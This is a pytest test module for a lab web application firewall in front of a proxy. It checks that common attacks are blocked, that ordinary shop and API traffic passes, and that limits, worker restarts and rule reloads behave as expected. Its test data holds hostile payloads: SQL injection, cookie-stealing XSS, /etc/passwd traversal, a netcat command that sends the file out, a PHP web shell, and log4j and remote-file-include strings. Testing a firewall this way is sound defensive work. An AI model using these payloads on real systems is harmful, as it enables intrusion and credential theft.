"""The web application firewall with Debian's own core rule set: attacks of its classes are refused, what a shop and an API send day by
day is not, by HTTP/1.1 and HTTP/2; limits, exclusions and detection only; workers that are killed, a firewall that is away, and
rules that are loaded anew under traffic."""
import concurrent.futures
import json
import urllib.parse

import pytest

from lab.cardea import Cardea
from lab.waf import Waf
from lab.wait import until
from lab.web import Web

BASE = "http://shop.example:8080"
VERSIONS = {"h1": "--http1.1", "h2c": "--http2-prior-knowledge"}
FORM = ("-H", "Content-Type: application/x-www-form-urlencoded")
JSON = ("-H", "Content-Type: application/json")
WAF = {"time_max": "8s"}  # the machine of the tests is shared
FOLDER = {}


def inspected(document):
    rules = FOLDER["path"] / "own.conf"
    rules.write_text('SecRule ARGS:own "@streq bad" "id:1000,phase:2,deny,status:403"\n')
    document["l7"]["waf"] = {"workers": 2, "queue": 64}
    routes = [
        {"name": "detect", "match": {"path": "/echo/detect"}, "pool": "origin", "waf": {**WAF, "mode": "detect"}},
        {"name": "excluded", "match": {"path": "/echo/excluded"}, "pool": "origin", "waf": {**WAF, "exclude": ["942000-942999"]}},
        {"name": "off", "match": {"path": "/echo/off"}, "pool": "origin", "waf": {"enabled": False}},
        {"name": "own", "match": {"path": "/echo/own"}, "pool": "origin", "waf": {**WAF, "files": [str(rules)]}},
        {"name": "slow", "match": {"path": "/echo/slow"}, "pool": "origin",
         "waf": {**WAF, "time_max": "1s", "value_max": "1MiB", "body_max": "1MiB"}},
        {"name": "api", "match": {"path": "/sink/api"}, "pool": "origin", "waf": {**WAF, "preset": "api", "when_over": "part"}}]
    for service in document["services"]:
        if service["name"].startswith("origin"):
            service["waf"] = dict(WAF)
            service["routes"] = [dict(route) for route in routes] + service["routes"]


class Inspected(Web):
    def __init__(self):
        super().__init__(origin=True, change=inspected, make_cardea=self.make)

    def make(self, site, document):
        self.waf = Waf(site).start()
        self._stack.callback(self.waf.stop)
        return Cardea(site, document)

    def __enter__(self):
        super().__enter__()
        self.waf.until_working(self.cardea)
        return self


@pytest.fixture(scope="module")
def web(tmp_path_factory):
    FOLDER["path"] = tmp_path_factory.mktemp("waf")
    with Inspected() as running:
        yield running


@pytest.fixture(params=VERSIONS)
def version(request):
    return VERSIONS[request.param]


ATTACKS = {
    "sql": "/echo?id=" + urllib.parse.quote("1' UNION SELECT password FROM users--"),
    "xss": "/echo?q=" + urllib.parse.quote("<script>alert(document.cookie)</script>"),
    "traversal": "/echo?file=../../../../etc/passwd",
    "command": "/echo?x=" + urllib.parse.quote(";cat /etc/passwd|nc 10.0.0.1 80"),
    "php": "/echo?x=" + urllib.parse.quote("<?php system($_GET['c']); ?>"),
    "remote file": "/echo?f=" + urllib.parse.quote("http://192.0.2.66/shell.txt?"),
    "log4j": "/echo?x=" + urllib.parse.quote("${jndi:ldap://192.0.2.66/a}"),
}
BODIES = {
    "sql": FORM + ("-d", "user=admin&pass=" + urllib.parse.quote("' OR '1'='1")),
    "json": JSON + ("-d", json.dumps({"a": {"b": ["x", "1' UNION SELECT password FROM users--"]}})),
    "multipart": ("--form-string", "q=<script>alert(document.cookie)</script>"),
    "upload": ("-F", "file=@/etc/hostname;filename=shell.php"),
}
ORDINARY = {
    "start": ("/echo",), "search": ("/echo?q=red+shoes&page=2&sort=price",), "words": ("/echo?q=" + urllib.parse.quote("rock'n'roll & jazz"),),
    "cookie": ("/echo", "-H", "Cookie: session=5f2c9a7d0b; lang=de"), "login": ("/sink", *FORM, "-d", "user=ann&pass=correct+horse"),
    "order": ("/sink", *JSON, "-d", json.dumps({"items": [{"sku": f"A-{i}", "count": i, "note": "gift for O'Brien"} for i in range(5)]})),
    "upload": ("/sink", "-F", "name=holiday", "-F", "file=@/etc/hostname;filename=photo.jpg;type=image/jpeg"),
    "address": ("/sink", *FORM, "-d", "street=" + urllib.parse.quote("Große Straße 5/7") + "&city=Bern"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_a_query(web, version, attack):
    status, _, body = web.get(BASE + ATTACKS[attack], version)
    assert (status, "waf" in body) == (403, True)
    line = web.logged(reason="waf")[-1]
    assert line["waf"] == "blocked" and line["waf_score"] >= 5 and line["waf_rules"], line


@pytest.mark.parametrize("attack", BODIES)
def test_attacks_in_a_body(web, version, attack):
    assert web.get(BASE + "/sink", version, *BODIES[attack])[0] == 403


def test_scanners(web, version):
    assert web.get(BASE + "/echo", version, "-A", "sqlmap/1.7.2#stable (https://sqlmap.org)")[0] == 403


@pytest.mark.parametrize("request_", ORDINARY)
def test_what_people_send(web, version, request_):
    path, *words = ORDINARY[request_]
    assert web.get(BASE + path, version, *words)[0] == 200, web.access_log()[-1]


@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE", "POST"])
def test_what_apis_send(web, version, method):
    words = () if method in ("GET", "DELETE") else ("-H", "Content-Type: application/problem+json", "-d", '{"title": "none left", "status": 409}')
    assert web.get(BASE + "/sink/api", version, "-X", method, *words)[0] == 200, web.access_log()[-1]
    assert web.get(BASE + "/sink", version, "-X", method, *words)[0] == (403 if method != "GET" else 200)


def test_detection_exclusions_and_routes_without(web, version):
    attack = "?id=" + urllib.parse.quote("1' UNION SELECT password FROM users--")
    for route, word in (("detect", "detected"), ("excluded", "pass"), ("off", None)):
        assert web.get(BASE + f"/echo/{route}{attack}", version)[0] == 200
        assert web.logged(route=route)[-1].get("waf") == word
    assert web.get(BASE + "/echo/own?own=bad", version)[0] == 403 and web.get(BASE + "/echo/own" + attack, version)[0] == 200


def test_ten_megabytes(web, version):
    words = ("-H", "Expect:", "-H", "Content-Type: application/octet-stream", "--data-binary", "@/tmp/waf-10m")
    web.site.client.run("dd", "if=/dev/urandom", "of=/tmp/waf-10m", "bs=1M", "count=10", "status=none")
    status, _, body = web.get(BASE + "/sink/api", version, *words)
    assert (status, json.loads(body)["length"]) == (200, 10 << 20)
    assert web.logged(route="api", waf="over")
    assert web.get(BASE + "/sink", version, *words)[0] == 413


def test_a_slow_request_ends_its_worker_and_nobody_elses_answer(web):
    slow = ("-H", "Content-Type: application/x-www-form-urlencoded", "-d", "a=" + urllib.parse.quote("x y' or ") * 12_000)
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        slows = [pool.submit(web.get, BASE + "/echo/slow", *slow) for _ in range(2)]
        others = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(20)]
        assert [done.result()[0] for done in others] == [200] * 20
        assert [done.result()[0] for done in slows] == [503] * 2
    assert web.logged(route="slow")[-1]["reason"] == "waf_late"
    assert web.cardea.cli("status")["waf"]["late"] >= 1


def test_killed_workers_are_replaced(web):
    for _ in range(3):
        before = set(web.waf.workers())
        web.waf.kill_workers()
        until(lambda: len(set(web.waf.workers()) - before) == 2, 5, "others are there")
        assert web.get(BASE + "/echo?q=1")[0] == 200


def test_rules_are_loaded_anew_and_broken_ones_refused(web):
    rules = FOLDER["path"] / "own.conf"
    rules.write_text('SecRule ARGS:own "@streq worse" "id:1000,phase:2,deny,status:403"\n')
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        running = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(30)]
        web.reload()
        assert [done.result()[0] for done in running] == [200] * 30
    assert web.get(BASE + "/echo/own?own=worse")[0] == 403 and web.get(BASE + "/echo/own?own=bad")[0] == 200
    rules.write_text("SecFoo bar\n")
    refused = web.cardea.reload(check=False)
    assert refused.returncode != 0 and "own.conf" in refused.stderr + refused.stdout and "Line: 1" in refused.stderr + refused.stdout
    assert web.get(BASE + "/echo/own?own=worse")[0] == 403
    rules.write_text('SecRule ARGS:own "@streq bad" "id:1000,phase:2,deny,status:403"\n')
    web.reload()


def test_explain_and_status_tell(web):
    story = web.cardea.explain_url("GET", BASE + "/echo?q=1")
    assert story["waf"] == "block" and any("core rule set" in line for line in story["story"])
    assert "2 workers" in web.cardea.run("status").stdout


def test_while_it_is_away(web):
    web.waf.stop()
    assert web.get(BASE + "/echo?q=1")[0] == 503 and web.logged(reason="waf_away")[-1]["waf"] == "away"
    assert web.get(BASE + "/echo/detect?q=1")[0] == 200 and web.get(BASE + "/echo/off?q=1")[0] == 200
    web.waf.start()
    web.waf.until_working(web.cardea)
    assert web.get(BASE + "/echo?q=1")[0] == 200
